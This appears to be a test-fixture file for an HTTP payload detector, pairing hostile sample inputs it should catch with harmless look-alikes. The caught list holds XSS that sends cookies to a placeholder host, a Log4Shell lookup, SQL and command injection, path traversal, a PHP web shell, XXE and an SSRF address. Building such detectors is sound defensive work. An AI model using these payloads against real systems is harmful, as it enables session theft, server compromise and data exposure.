import type { Examples } from '../detector.ts';

export const payloadExamples: Examples = {
  caught: [
    { surface: 'http_payload', text: '<script>fetch("//drop.example/?"+document.cookie)</script>' },
    { surface: 'http_payload', text: '<img src=x onerror=alert(1)>' },
    { surface: 'http_payload', text: "ann' OR 7=7 --" },
    { surface: 'http_payload', text: '4 UNION ALL SELECT name, secret FROM accounts' },
    { surface: 'http_payload', text: '\x24{jndi:ldap://drop.example/a}' },
    { surface: 'http_payload', text: '{{7*7}}' },
    { surface: 'http_payload', text: 'photo.png; cat /etc/passwd' },
    { surface: 'http_payload', text: '../../../../etc/hosts' },
    { surface: 'http_payload', text: '<?php system($_GET["c"]); ?>' },
    { surface: 'http_payload', text: "require('child_process').exec('id')" },
    { surface: 'http_payload', text: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]>' },
    { surface: 'http_payload', text: 'http://2852039166/' },
  ],
  innocent: [
    { surface: 'http_payload', text: 'Hello Ann, the meeting is at ten; bring the slides.' },
    { surface: 'http_payload', text: 'name=ann&age=30&city=Oslo' },
    { surface: 'http_payload', text: '{"items":[1,2,3],"ok":true}' },
    { surface: 'http_payload', text: 'https://shop.example/cart?id=7&sort=price' },
    { surface: 'http_payload', text: "Where is Siobhan O'Brien or her brother?" },
    { surface: 'http_payload', text: 'Dear {{name}}, welcome.' },
    { surface: 'http_payload', text: 'select the best option and update your profile' },
    { surface: 'http_payload', text: '/css/site.css' },
    { surface: 'http_payload', text: '2 < 3 and 5 > 4' },
    { surface: 'http_payload', text: 'ping me when the script is ready' },
  ],
};
